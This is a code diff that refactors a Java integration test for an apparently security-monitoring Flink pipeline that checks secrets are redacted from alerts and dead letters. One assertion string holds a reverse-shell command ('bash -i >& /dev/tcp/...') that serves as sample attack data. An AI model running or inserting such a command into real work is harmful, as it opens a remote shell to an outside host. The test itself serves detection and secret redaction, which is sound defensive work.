@@ -11,7 +11,6 @@ import dev.cronsentinel.sink.DeadLetterJson;
 import dev.cronsentinel.sink.elasticsearch.DeadLetterDocument;
 import dev.cronsentinel.sink.elasticsearch.EcsAlertDocument;
 import dev.cronsentinel.testing.AuditEvents;
-import dev.cronsentinel.testing.CollectingSink;
 import dev.cronsentinel.testing.Pipelines;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
@@ -19,7 +18,6 @@ import java.nio.file.Path;
 import java.time.Instant;
 import java.util.ArrayList;
 import java.util.List;
-import org.apache.flink.streaming.api.environment.StreamExecutionEnvironment;
 import org.apache.flink.test.junit5.MiniClusterExtension;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.extension.RegisterExtension;
@@ -67,33 +65,28 @@ class SecretRedactionITCase {
         Files.write(log, List.of(workload, expanded, attempt, broken), StandardCharsets.UTF_8);
 
         JobConfig config = Pipelines.jobConfig("input.file.paths", log.toString());
-        CollectingSink<Alert> alerts = new CollectingSink<>();
-        CollectingSink<DeadLetter> dead = new CollectingSink<>();
-        StreamExecutionEnvironment env = StreamExecutionEnvironment.getExecutionEnvironment(Pipelines.flinkConfig());
-        env.setParallelism(2);
-        Topology.build(env, CronSentinelJob.source(env, config), new Topology.Sinks(alerts, dead), config);
-        env.execute("secret redaction test");
+        Pipelines.FileRun run = Pipelines.runFiles(config, "secret redaction test");
 
-        assertThat(alerts.results()).extracting(Alert::kind).contains(AlertKind.WORKLOAD, AlertKind.ATTEMPT);
-        assertThat(dead.results()).hasSize(1);
+        assertThat(run.alerts()).extracting(Alert::kind).contains(AlertKind.WORKLOAD, AlertKind.ATTEMPT);
+        assertThat(run.deadLetters()).hasSize(1);
         List<String> written = new ArrayList<>();
-        for (Alert a : alerts.results()) {
+        for (Alert a : run.alerts()) {
             written.add(AlertJson.toJson(a));
             written.add(new String(EcsAlertDocument.toJson(a), StandardCharsets.UTF_8));
         }
-        for (DeadLetter d : dead.results()) {
+        for (DeadLetter d : run.deadLetters()) {
             written.add(DeadLetterJson.toJson(d));
             written.add(new String(DeadLetterDocument.toJson(d, 0L), StandardCharsets.UTF_8));
         }
         for (String out : written) {
             assertThat(out).doesNotContain(BEARER, PASSWORD, ENV_SECRET, AGENT_TOKEN, DEAD_LETTER_SECRET);
         }
-        assertThat(alerts.results()).flatExtracting(Alert::signals).extracting(s -> s.value())
+        assertThat(run.alerts()).flatExtracting(Alert::signals).extracting(s -> s.value())
                 .anySatisfy(v -> assertThat(v).contains("Bearer <redacted:bearer>", "ops:<redacted:password>"))
                 .anySatisfy(v -> assertThat(v).contains("echo <redacted:env> > /tmp/p; bash -i >& /dev/tcp/10.9.8.7/4444"));
-        assertThat(alerts.results()).filteredOn(a -> a.kind() == AlertKind.ATTEMPT).singleElement()
+        assertThat(run.alerts()).filteredOn(a -> a.kind() == AlertKind.ATTEMPT).singleElement()
                 .satisfies(a -> assertThat(a.userAgent()).isEqualTo("curl/8.5 token=<redacted:secret>"));
-        DeadLetter letter = dead.results().get(0);
+        DeadLetter letter = run.deadLetters().get(0);
         assertThat(new String(letter.payload(), StandardCharsets.UTF_8))
                 .contains("\"name\":\"API_TOKEN\",\"value\":\"<redacted:secret>");
         assertThat(letter.payloadLength()).as("a whole record stays whole").isEqualTo(letter.payload().length);
